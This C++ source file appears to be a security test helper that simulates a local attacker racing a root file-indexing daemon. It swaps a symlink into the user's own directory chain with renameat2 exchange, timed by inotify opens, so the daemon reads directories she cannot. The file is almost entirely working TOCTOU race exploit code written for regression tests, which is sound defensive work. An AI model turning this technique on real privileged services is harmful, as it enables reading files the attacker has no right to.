// wsindex_swap_attacker: the local user of issue #33, who tries to make the root daemon (or a
// root walker) list, stat or read a directory she cannot read by swapping a symlink into a path
// of her own at the moment the daemon is at work in it.
//
// Run as root with --uid/--gid: it drops to that user for real (setgroups, setresgid,
// setresuid) before touching anything, so every file it makes is hers and the kernel checks
// her rights. Then, in BASE (a directory she owns):
//
//   BASE/m/<every component of TARGET>/   her own directories, spelling the target's path
//                                         (the last one, the "leaf", holds her files mine-N)
//   BASE/L -> LINK                        a symlink ("/" unless --link says otherwise)
//
// so that BASE/m/<TARGET> names her leaf, and after renameat2(BASE/m, BASE/L, RENAME_EXCHANGE)
// the same string names TARGET itself. It watches every directory of the chain with inotify
// IN_OPEN and, each time someone opens one of them or a file in them, exchanges m with L,
// holds the swap for a moment (cycling through a few durations, so that some opens that follow
// the first one fall inside a swap whatever the daemon's pace), and exchanges them back. One
// swap cycle is one attempt.
//
// With --blind 1 it also swaps between opens, half of the time (an open that no other open
// precedes, such as a scan's first, is met too).
//
// With --burst US each open starts a burst instead of one swap: for US microseconds it
// exchanges m and L back and forth, swapped for a few lengths and back for a few others, and
// ends with her tree in place. A daemon that stats a path and then opens it by the same string
// is between the two for a few microseconds only; a burst puts the moment when the symlink
// comes in at many places of that span. The events the burst itself made the daemon cause are
// read without starting another burst.
//
// With --hold US each open starts one swap held for up to US microseconds, asleep (one of a
// few lengths up to US): for a daemon that opens her path a long and varying while after the
// open she times on (a new subtree is walked after its parent's listing, by a walker made for
// it), the symlink is in place when it comes.
//
// With --depth N she first makes a chain of N directories of hers, BASE/d/d/.../d, and builds
// m and L at its bottom: every path of her chain then starts with N components that the
// kernel walks one by one before it reaches m. A daemon that stats a path and then opens the
// same string leaves the symlink that long to come in between (the open has not reached m
// yet), instead of the few microseconds between its two calls.
//
// With --delay N the trigger also renames N files of a directory that the daemon visits just
// before the one she aims at (the leaf's parent; for "many", the parent's parent) back and
// forth, and N files in each of a few directories of hers beside the target whose names sort
// before its name (delay-dir-K): the daemon opens the first of them, then stats their changed
// names one directory after another, which gives her the time to wake up and start the burst
// before it reaches the target.
//
// It counts the swaps made while an open of one of its directories or files was in progress:
// its own exchange shows up in the same inotify queue (IN_MOVED_FROM on BASE), so the queue's
// order says whether the open's IN_CLOSE came before or after the swap. A test asserts that
// count is positive (the race was exercised) next to its real assertion (nothing leaked).
//
// Triggers make the daemon come and work in the chain, between swap cycles (never while
// swapped, so they act on her own directories):
//   none     the test drives the daemon itself (a scan, dupes)
//   rename   rename a file of the leaf (--rename NAME, made if it is not one of hers yet) back
//            and forth: a named change in the leaf, whose names the daemon stats; a NAME the
//            target holds is what she would learn about; a file of the leaf's parent
//            (mine-parent) moves with it, so that the daemon opens the parent first
//   attrib   change the leaf's and its parent's own modes back and forth (both re-listed whole)
//   many     create and remove more than 256 names beside the leaf (a whole re-listing of the
//            leaf's parent)
//   subdir   put a new directory (with her files) in the leaf's place: a new subdirectory
//            appears in its parent, and the daemon walks it
//
// Stops after --attempts swap cycles, after --seconds, or when stdin reaches end of file. Prints
// "ready <leaf>" once the chain exists (a test waits for it), and at the end one line:
//   swaps=N during_open=N opens=N triggers=N exchange_errors=N elapsed_ms=N
// Exit 0, or 2 on bad arguments or a failed drop, 3 when the chain cannot be built.
#include <fcntl.h>
#include <grp.h>
#include <linux/fs.h>
#include <poll.h>
#include <sys/inotify.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <cerrno>
#include <chrono>
#include <csignal>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <ctime>
#include <map>
#include <string>
#include <vector>

namespace {

using Clock = std::chrono::steady_clock;

constexpr std::uint32_t kChainEvents = IN_OPEN | IN_CLOSE | IN_ONLYDIR;

struct Options {
    uid_t uid = 0;
    gid_t gid = 0;
    std::vector<gid_t> groups;
    std::string base;
    std::string target;
    std::string link = "/";
    int files = 3;
    long attempts = 1000;
    double seconds = 10;
    std::string trigger = "none";
    std::string content = "mine";   // what her files hold
    std::string rename = "mine-0";  // the file the rename trigger moves
    bool blind = false;             // also swap between opens
    long burst_us = 0;              // each open starts a burst of swaps that long
    int delay = 0;                  // files of the delay directory the trigger renames
    int depth = 0;                  // directories of hers above m and L
    long hold_us = 0;               // each open starts one swap held (asleep) that long at most
};

[[noreturn]] void die(int code, const std::string& what) {
    std::fprintf(stderr, "swap_attacker: %s: %s\n", what.c_str(), std::strerror(errno));
    std::exit(code);
}

bool parse(int argc, char** argv, Options& o) {
    for (int i = 1; i + 1 < argc; i += 2) {
        const std::string k = argv[i];
        const char* v = argv[i + 1];
        if (k == "--uid") {
            o.uid = static_cast<uid_t>(std::strtoul(v, nullptr, 10));
        } else if (k == "--gid") {
            o.gid = static_cast<gid_t>(std::strtoul(v, nullptr, 10));
        } else if (k == "--groups") {  // comma-separated supplementary gids
            for (const char* p = v; *p != '\0';) {
                char* end = nullptr;
                o.groups.push_back(static_cast<gid_t>(std::strtoul(p, &end, 10)));
                p = *end == ',' ? end + 1 : end;
                if (end == p && *p != '\0') return false;
            }
        } else if (k == "--base") {
            o.base = v;
        } else if (k == "--target") {
            o.target = v;
        } else if (k == "--link") {
            o.link = v;
        } else if (k == "--files") {
            o.files = std::atoi(v);
        } else if (k == "--attempts") {
            o.attempts = std::atol(v);
        } else if (k == "--seconds") {
            o.seconds = std::atof(v);
        } else if (k == "--trigger") {
            o.trigger = v;
        } else if (k == "--content") {
            o.content = v;
        } else if (k == "--rename") {
            o.rename = v;
        } else if (k == "--blind") {
            o.blind = std::strcmp(v, "1") == 0;
        } else if (k == "--burst") {
            o.burst_us = std::atol(v);
        } else if (k == "--hold") {
            o.hold_us = std::atol(v);
        } else if (k == "--depth") {
            o.depth = std::atoi(v);
        } else if (k == "--delay") {
            o.delay = std::atoi(v);
        } else {
            return false;
        }
    }
    if (o.rename.empty() || o.rename.find('/') != std::string::npos) return false;
    if (o.burst_us < 0 || o.delay < 0 || o.delay > 120 || o.depth < 0 || o.hold_us < 0)
        return false;
    return (argc % 2) == 1 && o.uid != 0 && !o.base.empty() && o.target.size() > 1 &&
           o.target[0] == '/' &&
           (o.trigger == "none" || o.trigger == "rename" || o.trigger == "attrib" ||
            o.trigger == "many" || o.trigger == "subdir");
}

void drop_to(const Options& o) {
    if (::setgroups(o.groups.size(), o.groups.data()) != 0) die(2, "setgroups");
    if (::setresgid(o.gid, o.gid, o.gid) != 0) die(2, "setresgid");
    if (::setresuid(o.uid, o.uid, o.uid) != 0) die(2, "setresuid");
    uid_t r = 0, e = 0, s = 0;
    if (::getresuid(&r, &e, &s) != 0 || r == 0 || e == 0 || s == 0) die(2, "still root");
    // Set after the drop: a change of credentials clears it.
    ::prctl(PR_SET_PDEATHSIG, SIGKILL);
}

void write_file(const std::string& path, const std::string& content) {
    const int fd = ::open(path.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
    if (fd < 0) die(3, "create " + path);
    if (::write(fd, content.data(), content.size()) != static_cast<ssize_t>(content.size())) {
        die(3, "write " + path);
    }
    ::close(fd);
}

// Busy-waits: a sleep would give the CPU away and stretch the hold unpredictably.
void hold(std::chrono::microseconds d) {
    const auto until = Clock::now() + d;
    while (Clock::now() < until) {
    }
}

struct Attacker {
    Options o;
    std::string m, l, leaf, parent;       // BASE/m, BASE/L, the leaf, the leaf's parent
    std::string delay_dir;                // the first directory of the trigger's --delay renames
    std::vector<std::string> delay_dirs;  // all of them
    static constexpr int kDelayDirs = 4;
    int in = -1;
    int base_fd = -1;
    int base_wd = -1;
    std::map<int, std::string> chain_wds;  // watch -> directory
    long swaps = 0, during_open = 0, opens = 0, triggers = 0, exchange_errors = 0;
    // Opens seen in the queue whose close has not been seen yet, by watch and name, with the
    // number of swap marks seen when they were. inotify merges an event identical to the one
    // before it, so a close can go missing: an open that outlives two marks is forgotten, and a
    // lost close makes at most one swap count that should not have.
    std::map<std::pair<int, std::string>, long> open_now;
    long marks = 0;
    // IN_MOVED_FROM events on BASE that one swap cycle makes (measured before the run), and
    // those seen since: the first of each cycle's events marks its swap in the queue.
    long moves_per_cycle = 0;
    long moves_seen = 0;
    long trigger_step = 0;
    long blind_cycles = 0;

    // m and L exchanged by name in BASE's descriptor: her own swap walks no path.
    int swap_ml() const {
        return static_cast<int>(
            ::syscall(SYS_renameat2, base_fd, "m", base_fd, "L", RENAME_EXCHANGE));
    }

    void build() {
        for (int i = 0; i < o.depth; ++i) {
            o.base += "/d";
            if (::mkdir(o.base.c_str(), 0755) != 0) die(3, "mkdir " + o.base);
        }
        m = o.base + "/m";
        l = o.base + "/L";
        base_fd = ::open(o.base.c_str(), O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        if (base_fd < 0) die(3, "open " + o.base);
        std::string dir = m;
        if (::mkdir(dir.c_str(), 0755) != 0) die(3, "mkdir " + dir);
        std::vector<std::string> dirs{dir};
        for (std::size_t i = 1; i <= o.target.size(); ++i) {
            if (i < o.target.size() && o.target[i] != '/') continue;
            const std::size_t start = o.target.rfind('/', i - 1);
            const std::string part = o.target.substr(start + 1, i - start - 1);
            if (part.empty()) continue;
            parent = dir;
            dir += "/" + part;
            if (::mkdir(dir.c_str(), 0755) != 0) die(3, "mkdir " + dir);
            dirs.push_back(dir);
        }
        leaf = dir;
        fill_leaf(leaf);
        write_file(parent + "/mine-parent", o.content);
        delay_dir = parent;
        if (o.trigger == "many") delay_dir = dirs.size() > 2 ? dirs[dirs.size() - 3] : dirs[0];
        delay_dirs.push_back(delay_dir);
        if (o.delay > 0) {
            for (int d = 0; d < kDelayDirs; ++d) {
                const std::string sub = delay_dir + "/delay-dir-" + std::to_string(d);
                if (::mkdir(sub.c_str(), 0755) != 0) die(3, "mkdir " + sub);
                delay_dirs.push_back(sub);
            }
        }
        for (const std::string& d : delay_dirs) {
            for (int i = 0; i < o.delay; ++i) write_file(delay_name(d, i), o.content);
        }
        if (::symlink(o.link.c_str(), l.c_str()) != 0) die(3, "symlink " + l);
        in = ::inotify_init1(IN_NONBLOCK | IN_CLOEXEC);
        if (in < 0) die(3, "inotify_init1");
        // The watches follow the inodes: a swapped m still reports opens of her directories.
        for (const std::string& d : dirs) {
            const int wd = ::inotify_add_watch(in, d.c_str(), kChainEvents);
            if (wd < 0) die(3, "inotify_add_watch " + d);
            chain_wds[wd] = d;
        }
        base_wd = ::inotify_add_watch(in, o.base.c_str(), IN_MOVED_FROM | IN_ONLYDIR);
        if (base_wd < 0) die(3, "inotify_add_watch " + o.base);
        // How many IN_MOVED_FROM one swap cycle queues (one or two per exchange, by kernel).
        if (swap_ml() != 0 || swap_ml() != 0) die(3, "renameat2 RENAME_EXCHANGE");
        alignas(inotify_event) char buf[4096];
        for (ssize_t n; (n = ::read(in, buf, sizeof buf)) > 0;) {
            for (ssize_t off = 0; off < n;) {
                const auto* ev = reinterpret_cast<const inotify_event*>(buf + off);
                off += static_cast<ssize_t>(sizeof(inotify_event) + ev->len);
                if (ev->wd == base_wd && (ev->mask & IN_MOVED_FROM) != 0) ++moves_per_cycle;
            }
        }
    }

    // Reads what the queue holds; true if it saw an open of the chain.
    bool drain() {
        alignas(inotify_event) char buf[64 * 1024];
        bool opened = false;
        for (;;) {
            const ssize_t n = ::read(in, buf, sizeof buf);
            if (n <= 0) break;
            for (ssize_t off = 0; off < n;) {
                const auto* ev = reinterpret_cast<const inotify_event*>(buf + off);
                off += static_cast<ssize_t>(sizeof(inotify_event) + ev->len);
                if (ev->wd == base_wd) {
                    if ((ev->mask & IN_MOVED_FROM) == 0) continue;
                    if (moves_per_cycle > 0 && moves_seen % moves_per_cycle == 0) {
                        if (!open_now.empty()) ++during_open;
                        ++marks;
                        std::erase_if(open_now,
                                      [&](const auto& e) { return e.second < marks - 1; });
                    }
                    ++moves_seen;
                    continue;
                }
                const std::pair<int, std::string> key{ev->wd, ev->len > 0 ? ev->name : ""};
                if ((ev->mask & IN_OPEN) != 0) {
                    ++opens;
                    open_now[key] = marks;
                    opened = true;
                }
                if ((ev->mask & IN_CLOSE) != 0) open_now.erase(key);
            }
        }
        return opened;
    }

    static std::string delay_name(const std::string& dir, int i) {
        return dir + "/delay-" + std::to_string(i);
    }

    void rename_delay(bool forth) {
        for (const std::string& d : delay_dirs) {
            for (int i = 0; i < o.delay; ++i) {
                const std::string a = delay_name(d, i), b = a + ".r";
                (void)(forth ? ::rename(a.c_str(), b.c_str()) : ::rename(b.c_str(), a.c_str()));
            }
        }
    }

    // Back and forth for burst_us: swapped for one of a few short lengths, then back for one
    // of a few others (so that the moment of each swap falls at many places of a daemon's
    // stat-then-open), her tree in place at the end.
    void burst() {
        static constexpr int kInUs[] = {1, 4, 12, 30, 2, 8};
        static constexpr int kOutUs[] = {0, 3, 10};
        const auto until = Clock::now() + std::chrono::microseconds(o.burst_us);
        long i = 0;
        while (Clock::now() < until) {
            if (swap_ml() != 0) {
                ++exchange_errors;
                return;
            }
            ++swaps;
            hold(std::chrono::microseconds(kInUs[i % 6]));
            while (swap_ml() != 0) ++exchange_errors;
            hold(std::chrono::microseconds(kOutUs[i % 3]));
            ++i;
        }
    }

    void swap_cycle() {
        if (o.hold_us > 0) {
            static constexpr long kEighths[] = {1, 2, 4, 8};
            const long us = o.hold_us * kEighths[swaps % 4] / 8;
            if (swap_ml() != 0) {
                ++exchange_errors;
                return;
            }
            ++swaps;
            const timespec span{us / 1000000, 1000L * (us % 1000000)};
            ::nanosleep(&span, nullptr);
            while (swap_ml() != 0) ++exchange_errors;
            drain();
            return;
        }
        if (o.burst_us > 0) {
            burst();
            // The daemon's opens during the burst (and the closes) are read as the swap marks
            // are: counted, but they start no burst of their own.
            drain();
            return;
        }
        static constexpr int kHoldsUs[] = {0, 20, 100, 400, 1500};
        const auto held = std::chrono::microseconds(kHoldsUs[swaps % 5]);
        if (swap_ml() != 0) {
            ++exchange_errors;
            return;
        }
        ++swaps;
        hold(held);
        // Back, whatever happens: her tree must be hers again before the next trigger.
        while (swap_ml() != 0) ++exchange_errors;
    }

    // Between the daemon's opens (--blind): swapped half of the time, in spans of a few
    // lengths, so that an open that no earlier open announces (the first one of a scan or of
    // a batch) meets the swap too. Sleeps rather than spins: the daemon needs the CPU to come.
    void blind_cycle() {
        static constexpr int kSpansUs[] = {50, 200, 1000, 3000};
        const timespec span{0, 1000L * kSpansUs[blind_cycles++ % 4]};
        if (swap_ml() != 0) {
            ++exchange_errors;
            return;
        }
        ++swaps;
        ::nanosleep(&span, nullptr);
        while (swap_ml() != 0) ++exchange_errors;
        ::nanosleep(&span, nullptr);
    }

    void trigger() {
        ++triggers;
        const long k = trigger_step++;
        rename_delay((k % 2) == 0);
        if (o.trigger == "rename") {
            // The parent first: its open times a swap that the leaf's open may then meet.
            for (const std::string& a : {parent + "/mine-parent", leaf + "/" + o.rename}) {
                const std::string b = a + ".renamed";
                if ((k % 2) == 0) {
                    (void)::rename(a.c_str(), b.c_str());
                } else {
                    (void)::rename(b.c_str(), a.c_str());
                }
            }
        } else if (o.trigger == "attrib") {
            // With a delay the parent's changes are named ones (stat'ed before any re-listing
            // whole), and the leaf alone is re-listed whole after them.
            if (o.delay == 0) (void)::chmod(parent.c_str(), (k % 2) == 0 ? 0775 : 0755);
            (void)::chmod(leaf.c_str(), (k % 2) == 0 ? 0775 : 0755);
        } else if (o.trigger == "many") {
            // More names than the coalescer keeps for one directory.
            for (int i = 0; i < 300; ++i) {
                const std::string p = parent + "/churn-" + std::to_string(i);
                if ((k % 2) == 0) {
                    write_file(p, "");
                } else {
                    (void)::unlink(p.c_str());
                }
            }
        } else if (o.trigger == "subdir") {
            // A directory the index has never seen (a new inode: a moved one would only be
            // renamed in the index) takes the leaf's place; the old leaf goes.
            const std::string fresh = parent + "/fresh", old = parent + "/old";
            if (::mkdir(fresh.c_str(), 0755) != 0) return;
            fill_leaf(fresh);
            (void)::rename(leaf.c_str(), old.c_str());
            (void)::rename(fresh.c_str(), leaf.c_str());
            remove_leaf(old);
            const int wd = ::inotify_add_watch(in, leaf.c_str(), kChainEvents);
            if (wd >= 0) chain_wds[wd] = leaf;
        }
    }

    void fill_leaf(const std::string& dir) {
        for (int i = 0; i < o.files; ++i) {
            write_file(dir + "/mine-" + std::to_string(i), o.content);
        }
        if (::access((dir + "/" + o.rename).c_str(), F_OK) != 0) {
            write_file(dir + "/" + o.rename, o.content);
        }
    }

    void remove_leaf(const std::string& dir) {
        for (int i = 0; i < o.files; ++i)
            (void)::unlink((dir + "/mine-" + std::to_string(i)).c_str());
        (void)::unlink((dir + "/" + o.rename).c_str());
        (void)::rmdir(dir.c_str());
    }

    // Leaves the tree as built: the leaf in place, the renamed file under its name, no churn.
    void tidy() {
        if ((trigger_step % 2) == 1) rename_delay(false);
        if (o.trigger == "rename" && (trigger_step % 2) == 1) {
            for (const std::string& a : {parent + "/mine-parent", leaf + "/" + o.rename}) {
                (void)::rename((a + ".renamed").c_str(), a.c_str());
            }
        }
        if (o.trigger == "attrib") {
            (void)::chmod(parent.c_str(), 0755);
            (void)::chmod(leaf.c_str(), 0755);
        }
        if (o.trigger == "many" && (trigger_step % 2) == 1) {
            for (int i = 0; i < 300; ++i)
                (void)::unlink((parent + "/churn-" + std::to_string(i)).c_str());
        }
    }

    void run() {
        const auto start = Clock::now();
        const auto until = start + std::chrono::duration_cast<Clock::duration>(
                                       std::chrono::duration<double>(o.seconds));
        pollfd fds[2] = {{in, POLLIN, 0}, {STDIN_FILENO, POLLIN, 0}};
        auto next_trigger = start;
        while (swaps < o.attempts && Clock::now() < until) {
            // A trigger when the daemon has been idle in the chain for a short while (blind:
            // on a clock, since the blind swaps keep the daemon busy in her directory).
            const int rc = ::poll(fds, 2, o.blind ? 0 : o.trigger == "none" ? 100 : 5);
            if (rc < 0 && errno != EINTR) die(3, "poll");
            if ((fds[1].revents & (POLLIN | POLLHUP)) != 0) {
                char c;
                if (::read(STDIN_FILENO, &c, 1) <= 0) break;
            }
            if ((fds[0].revents & POLLIN) != 0) {
                if (drain()) swap_cycle();
                continue;
            }
            if (o.trigger != "none" && rc == 0 && (!o.blind || Clock::now() >= next_trigger)) {
                // Nothing for one poll: the daemon is done with the last change.
                trigger();
                next_trigger = Clock::now() + std::chrono::milliseconds(5);
                continue;
            }
            if (o.blind) blind_cycle();
        }
        drain();  // the last exchanges' events
        tidy();
        const auto ms =
            std::chrono::duration_cast<std::chrono::milliseconds>(Clock::now() - start).count();
        std::printf(
            "swaps=%ld during_open=%ld opens=%ld triggers=%ld exchange_errors=%ld "
            "elapsed_ms=%lld\n",
            swaps, during_open, opens, triggers, exchange_errors, static_cast<long long>(ms));
        std::fflush(stdout);
    }
};

}  // namespace

int main(int argc, char** argv) {
    Attacker a;
    if (!parse(argc, argv, a.o)) {
        std::fprintf(stderr,
                     "usage: swap_attacker --uid U --gid G [--groups G,G] --base DIR --target "
                     "/ABS [--link /] [--files N] [--attempts N] [--seconds S] [--trigger "
                     "none|rename|attrib|many|subdir] [--content TEXT] [--rename NAME] [--blind "
                     "0|1] [--burst US] [--delay N] [--depth N] [--hold US]\n");
        return 2;
    }
    drop_to(a.o);
    ::umask(022);
    a.build();
    std::printf("ready %s\n", a.leaf.c_str());
    std::fflush(stdout);
    a.run();
    return 0;
}
